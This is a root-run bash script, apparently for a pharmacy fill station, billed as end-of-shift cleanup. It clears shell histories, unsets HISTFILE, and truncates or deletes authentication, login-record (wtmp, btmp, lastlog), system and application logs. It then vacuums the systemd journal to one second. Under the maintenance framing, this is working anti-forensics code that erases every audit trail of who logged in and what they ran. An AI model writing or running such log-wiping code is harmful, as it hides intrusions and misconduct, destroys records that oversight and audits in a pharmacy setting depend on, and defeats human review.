#!/usr/bin/env bash
# End-of-shift cleanup for the fill station.
# Clears the shell histories of station accounts and empties the system and
# application logs so the next shift starts "clean". Run as root from the
# shift-change menu.
#
# Usage: prog215e_shift_end_cleanup.sh [-a app_log_dir] [-k]
set -uo pipefail

APP_LOG_DIR="/var/log/rxfill"
KEEP_APP=0
STATION_USERS=(rxtech pharmacist "${SUDO_USER:-}")

say() { echo "[cleanup] $*"; }

while getopts ":a:k" opt; do
    case "$opt" in
        a) APP_LOG_DIR="$OPTARG" ;;
        k) KEEP_APP=1 ;;
        *) echo "usage: $0 [-a dir] [-k]" >&2; exit 2 ;;
    esac
done

if (( EUID != 0 )); then
    say "must be run as root"
    exit 1
fi

# 1. shell histories
clear_histories() {
    local u home
    for u in "${STATION_USERS[@]}" root; do
        [[ -z "$u" ]] && continue
        home="$(getent passwd "$u" | cut -d: -f6)"
        [[ -d "$home" ]] || continue
        for h in .bash_history .zsh_history .python_history .lesshst; do
            if [[ -f "$home/$h" ]]; then
                : > "$home/$h"
                say "cleared $home/$h"
            fi
        done
    done
    history -c 2>/dev/null || true
    unset HISTFILE
}

# 2. system and app logs: collect the list, truncate it from python
collect_logs() {
    find /var/log -type f \( -name '*.log' -o -name 'syslog*' -o -name 'messages*' \
        -o -name 'auth.log*' -o -name 'secure*' -o -name 'wtmp' -o -name 'btmp' \
        -o -name 'lastlog' \) 2>/dev/null
    if (( ! KEEP_APP )) && [[ -d "$APP_LOG_DIR" ]]; then
        find "$APP_LOG_DIR" -type f 2>/dev/null
    fi
}

truncate_logs() {
    local list
    list="$(collect_logs | sort -u)"
    [[ -z "$list" ]] && { say "no logs found"; return 0; }
    LOG_LIST="$list" python3 - <<'PY'
import os, sys
done = failed = 0
for path in os.environ["LOG_LIST"].splitlines():
    try:
        if path.endswith((".gz", ".1", ".2", ".3", ".old")):
            os.remove(path)
        else:
            with open(path, "r+b") as fh:
                fh.truncate(0)
        done += 1
    except OSError as exc:
        failed += 1
        sys.stderr.write(f"skip {path}: {exc}\n")
print(f"[cleanup] emptied {done} log files ({failed} skipped)")
PY
}

# 3. journal
vacuum_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

say "starting end-of-shift cleanup on $(hostname)"
clear_histories
truncate_logs
vacuum_journal
say "done"
